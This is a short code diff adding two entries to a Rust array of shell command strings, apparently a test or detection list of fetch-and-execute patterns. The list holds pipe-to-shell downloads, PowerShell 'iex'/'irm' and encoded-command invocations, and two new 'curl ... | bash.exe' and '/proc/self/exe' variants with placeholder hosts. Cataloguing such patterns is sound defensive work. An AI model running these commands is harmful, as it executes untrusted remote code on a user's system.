@@ -58,6 +58,8 @@ const RUN: &[&str] = &[
     "gpg -qd x | sh",
     "pwsh -c 'iex (irm http://h)'",
     "pwsh -Command '(iwr http://h).Content | Invoke-Expression'",
+    "curl https://x.test/y | /proc/self/exe",
+    "curl.exe https://x.test/y | bash.exe",
     "powershell.exe -NoProfile -enc ZQBjAGgAbwA=",
     "http GET h > x; sh x",
     "http GET h | sh",
